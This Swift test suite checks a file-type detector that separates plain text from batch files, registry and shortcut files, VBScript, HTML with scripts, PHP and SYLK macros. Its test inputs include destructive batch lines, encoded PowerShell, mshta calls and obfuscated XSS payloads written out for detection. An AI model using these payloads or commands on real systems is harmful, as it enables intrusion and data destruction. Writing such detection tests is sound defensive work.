import CompassTesting
import Platform
import Testing

@testable import FileType

/// What makes a text more than text, and what only looks so.
@Suite struct WrittenFormatTests {
    private static func inspect(_ text: String) throws -> TextContent {
        try TextContent.inspect(ContainerContent(Array(text.utf8)))
    }

    @Test(
        "words of batch files, pages and scripts may begin a text or stand in it",
        arguments: [
            "@echo.hs on Instagram\n", "@Echo Officer Academy\n", "@echo officer\n", "@del rey 12\nFans\n",
            "@call me maybe\nAnn\n", "@start2finish\n", "Echo off the wall\nGym\n", "Echo Park\nStart 9:00\n",
            "REM: 90 min\nSleep\n", "Set 1 = 25-20\nSet 2 = 25-18\nSet 3 = 25-22\n", "Start 9:00\nCall 555-1234\n",
            "If GPA > 3.5 apply\nFor 50% of games\nCall home\n", "Type A\nStart now\n", ":: Schedule ::\nMon 9\n",
            "Title IX\nFormat 5-set\nColor red\n", "The first line of a batch file is\n@echo off\n",
            "Copy of transcript\nMove to Texas\n", "(Start 9:00)\nCall\n",
            ":: TITLE ::\nStart 9:00\nCall home\n", "Rem Janssen\nSet designer, spring play\nCall time 17:30\n",
            "Rem Koolhaas essay A\nSet theory A-\nType design B+\nEcho and Narcissus reading A\n",
            "REM 92 min\nREM 88 min\n", ":: Coach notes\nStart Jordan at QB\nSet tempo early\n",
            "SET 101 /Honors/ A\nSET 102 /Honors/ A\n", "Copy /official/ of record\n", "Exit velo 95%\nCall 1%er\n",
            "Set %KILL% PCT\n", "rem a\nstart here\n", "Net -3 yards\nSet -2\n",
            "<body mass>,<height>\n60,180\n", "<head coach>: Reyes\n", "<div I> offers\n", "<a student> wrote\n",
            "<p.m. session>\n", "<title> goes here\n", "<b>Jordan</b>\nReyes\n", "<h1> is the largest title\n",
            "<b>Jordan</b> <i>Reyes</i>\n", "<p>Jordan\n", "<br>Jordan\n", "<table> and <div> are tags\n",
            "<a href=\"https://example.com/film\">film</a>,12\n", "<!-- a remark --> Grades\n", "<!-- a remark\n",
            "Web: <script> and </script> are tags\n", "Web: <script>, <style>, </script>\n",
            "<script> tags & \"ends\" as in </script>\n", "<script> is a tag\n",
            "PHP begins with <?php and ends with ?>\n", "<?php is a mark\n", "I know <?php echo; it is easy\n",
            "<x and z onset = 5>\n", "<img> has onload and onerror\n", "<a title=\"javascript: an introduction\">\n",
            "<iframe srcdoc> is new\n",
            "Ann,<img src=\"data:image/svg+xml,x\">\n", "A <meta http-equiv=refresh> is old\n",
            "<?xml is a beginning\n",
            "#! Important notice\n", "#!! Read\n", "#!,Name\n1,Ann\n", "#!\n", "%!important\n", "%!,GP\n", "%PDF\n",
            "ID;PPG;RPG\nC;12.1;5\nP;8;3\nO;6;2\n", "ID;Position;E\nC;X;E\nO;E;3\nP;1;2\n", "ID;P1;P2\nNN;3;4\n",
            "[Stats]\nURL=x\n", "[Schedule]\n[Games]\nopen=1\n", "Windows Registry Editor\n", "REGEDIT4 is old\n",
            "See [InternetShortcut]\nURL=x\n", "[InternetShortcut] URL=x\n", "[InternetShortcut]\nURL=\n",
            "I used WScript.Shell and ActiveXObject\n", "Learned CreateObject (and more)\n", "WScript\n",
            "My WScript.Echo line\n", "setup notes.exe, 12\n",
        ])
    func texts(text: String) throws {
        #expect(try Self.inspect(text) == .text(charset: "us-ascii"))
    }

    private static let batch = [
        ":: x\r\ndel /q C:\\x\r\n", "rem x\r\ndel /q *.*\r\n", ":: x\r\n@echo off\r\nx\r\n", "rem x\r\ncalc.exe\r\n",
        "echo off\r\ncls\r\n", "@@echo off\r\n", "@(echo off)\r\n", "@\"echo\" off\r\n", "@e^cho off\r\n",
        " @echo off&x\r\n",
        "@del x\r\n", "@del /s /q %USERPROFILE%\r\n", "@powershell -c x\r\n", "powershell -enc AAAA\r\n",
        "start calc.exe\r\n", "call evil.bat\r\n", "start \"\" evil.exe\r\n", "pushd %~dp0\r\nstart calc\r\n",
        "%COMSPEC% /c calc.exe\r\n", "mshta http://x.example\r\n", "wmic process call create calc.exe\r\n",
        "@rem x\r\n@python \"%~dp0x.py\" %*\r\n",
        "setlocal enabledelayedexpansion\r\nset a=1\r\n", "if not exist C:\\x md C:\\x\r\n", "for %%a in (*) do x\r\n",
        "@rem x\r\nreg add HKCU\\x /v y\r\n", ":start\r\ncopy a.txt C:\\b\r\ngoto start\r\n", "cd..\r\ndel *.txt\r\n",
        "(\r\nerase /q x\r\n)\r\n", "cmd /c x\r\n",
        "title x\r\ncolor 0a\r\nstart /b y.exe\r\nz\r\npause\r\nexit /b\r\n",
    ]

    @Test("batch files are told by their lines, not by one word", arguments: batch)
    func batchFiles(text: String) throws {
        #expect(try Self.inspect(text) == .other(mimeType: "text/x-msdos-batch"))
    }

    @Test(
        "what Windows or a desktop carries out when it is opened is no text",
        arguments: [
            (
                "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\x]\r\n\"a\"=\"b\"\r\n",
                "text/x-ms-regedit"
            ),
            ("REGEDIT4\r\n[HKEY_CURRENT_USER\\x]\r\n", "text/x-ms-regedit"),
            ("; x\r\nREGEDIT4\r\n", "text/x-ms-regedit"),
            ("[InternetShortcut]\r\nURL=file:///C:/x\r\n", "application/x-mswinurl"),
            ("[{000214A0-0000-0000}]\r\nProp3=19,2\r\n[internetshortcut]\r\nurl = x\r\n", "application/x-mswinurl"),
            ("# x\n[Desktop Entry]\nType=Application\nExec=x\n", "application/x-desktop"),
            ("[Desktop Entry]\nType=Link\nURL=x\n", "application/x-desktop"),
            ("[autorun]\r\nopen=x.exe\r\n", "application/x-setupscript"),
            ("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"x\"\r\n", "text/vbscript"),
            ("new ActiveXObject ( 'WScript.Shell').Run('x')\n", "text/vbscript"),
            ("' x\r\nWScript.Echo \"x\"\r\n", "text/vbscript"), ("GetObject(\"winmgmts:\")\r\n", "text/vbscript"),
        ])
    func openedFiles(text: String, mimeType: String) throws {
        #expect(try Self.inspect(text) == .other(mimeType: mimeType))
    }

    private static let pages = [
        "<html lang=en>", "<HTML>Hello", "<!DOCTYPE html>", "<!-- x --><!-- y --><html>", "<!-- x --><p>A",
        "<body bgcolor=red>A", "<div class='x'>A</div>", "<h1>A</h1>", "<title>A</title>B", "<table>\n<tr><td>A",
        "<form action=x>", "<iframe src=x>",
        // Scripts, wherever they stand.
        "A\n<script>alert(1)</script>", "A<script src=x></script >", "A<script type=module>import\"//x/y.js\"</script>",
        "A<svg><script>alert&#40;1&#41;</script></svg>", "A<svg><script href=\"//x/y\"/></svg>",
        "A<script\n>x=1</SCRIPT/>",
        "A<svg/onload=alert(1)>", "A<img src=x alt='>' onerror=alert(1)>", "A<img src=x onerror=alert&lpar;1&rpar;>",
        "A<a\nhref=javascript:f()>", "A,<a href=\"java\tscript:f()\">x</a>", "<a href=' &#106;avascript:f()'>",
        "<a href=&#x6A;&#x61vascript&colon;f()>", "<a href='java&NewLine;script:f()'>", "<a href=\u{1}JavaScript:x>",
        "<a href=vbscript:x>", "<iframe src='data:text/html,x'>", "<form><button formaction=javascript:x>",
        "A<iframe srcdoc='<script>x</script>'>", "A<iframe srcdoc=&lt;x>", "A<meta http-equiv=refresh content=0;x>",
        "A<META content='0; url=x' HTTP-EQUIV=' Refresh'>", "A<x <y onclick=f()>",
        "<iframe src='data:image/svg+xml,<svg onload=x()>'>", "A<object data=data:text/xml,x>",
        "A<svg><animate values=javascript:f()>", "A<div style=x onmouseover=\"f()\">", "A<a b='<c>' onclick='f()'>",
    ]

    @Test("pages and what runs in them are no texts", arguments: pages)
    func markup(text: String) throws {
        #expect(try Self.inspect(text) == .other(mimeType: "text/html"))
    }

    @Test(
        "other code is no text",
        arguments: [
            ("A <?php system('x'); ?>", "text/x-php"), ("A <?php echo $x; ?>", "text/x-php"),
            ("A <?= `x` ?>", "text/x-php"), ("<?PHP\nfunction_exists('a') and b();", "text/x-php"),
            ("<svg width=1>", "image/svg+xml"), ("<svg><g>", "image/svg+xml"),
            ("%!\n/a 1 def\n", "application/postscript"),
            ("%!PS\n", "application/postscript"), ("#!/bin/sh", "text/x-shellscript"),
            ("#! \t/usr/bin/perl", "text/x-shellscript"),
            ("ID;P\nO;E\nC;X1;Y1;EEXEC(\"x\")\n", "application/x-sylk"),
            ("ID;PSCALC3\nNN;NAuto_open;ER1C1;F\nC;Y1;X1;K0\n", "application/x-sylk"),
        ])
    func code(text: String, mimeType: String) throws {
        #expect(try Self.inspect(text) == .other(mimeType: mimeType))
    }

    @Test(
        "a long text is read to its end, across the places where its parts meet",
        arguments: Nightly.isOn ? Array(-70...10) : [-26, -1, 0])
    func longTexts(offset: Int) throws {
        let piece = ContainerContent.pieceSize
        for (code, mimeType) in [
            ("<script>alert(1)</script>", "text/html"), ("<img src=x onerror=alert(1)>", "text/html"),
            ("CreateObject(\"x\")", "text/vbscript"), ("<?php system('x');", "text/x-php"),
        ] {
            let start = 5 * piece + offset
            let text = String(repeating: "ALGEBRA,A\n", count: Nightly.isOn ? 50_000 : 36_000).utf8
            let bytes = Array(text.prefix(start - 1)) + Array("\n\(code)".utf8) + Array(text)
            #expect(try TextContent.inspect(ContainerContent(bytes)) == .other(mimeType: mimeType))
        }
    }

    @Test("it makes no difference where the parts of a text meet", arguments: 0..<(Nightly.isOn ? 8 : 1))
    func parts(seed: Int) throws {
        var generator = SeededRandom(seed: UInt64(seed))
        let words = [
            "<script>", "</script>", "alert(1)", "<a href=", "'java", "script:f()'", ">", "<img src=x ", "onerror", "=",
            "f()",
            "<?php ", "system('x')", ";", "?>", "Ann,3\n", "CreateObject", "(", "\"x\"", "\nWScript.", "Echo ",
            "ID;P\n", "<b>",
        ]
        for _ in 0..<300 {
            let text = Array((0..<40).map { _ in words.randomElement(using: &generator) ?? "" }.joined().utf8)
            var whole = MarkupScanner()
            let expected = whole.read(text, isLast: true)
            var scanner = MarkupScanner()
            var found: String?
            var position = 0
            while found == nil, position < text.count {
                let end = min(text.count, position + Int.random(in: 1...80, using: &generator))
                found = scanner.read(Array(text[position..<end]), isLast: end == text.count)
                position = end
            }
            #expect((found == nil) == (expected == nil), "\(String(decoding: text, as: UTF8.self))")
        }
    }

    @Test("other data in the middle of a long text are found")
    func mixed() throws {
        let text = [UInt8](repeating: 0x41, count: 5 * ContainerContent.pieceSize)
        let data = (0..<4_096).map { UInt8(truncatingIfNeeded: $0 &* 7) }
        #expect(
            try TextContent.inspect(ContainerContent(text + data + text))
                == .mixed(at: Int64(5 * ContainerContent.pieceSize)))
    }

    @Test("a program in a ZIP archive behind a text is found")
    func archives() throws {
        let text = Array(String(repeating: "ALGEBRA,A\n", count: 50_000).utf8)
        let archive = ZipBuilder.of("Main.class").bytes
        #expect(
            try TextContent.inspect(ContainerContent(text + archive)) == .other(mimeType: "application/java-archive"))
    }

    @Test(
        "texts that make every byte begin something take no longer than others",
        arguments: [
            "<a", "<a b=\"", "<a b='<a b=\"", "<?php ", "<?=(", "<script>", "(", "<!--", "WScript.", "ID;P\nC;",
        ])
    func hostile(text: String) throws {
        let bytes = Array(String(repeating: text, count: (Nightly.isOn ? 150_000 : 15_000) / text.utf8.count).utf8)
        #expect(try TextContent.inspect(ContainerContent(bytes)) == .text(charset: "us-ascii"))
    }
}
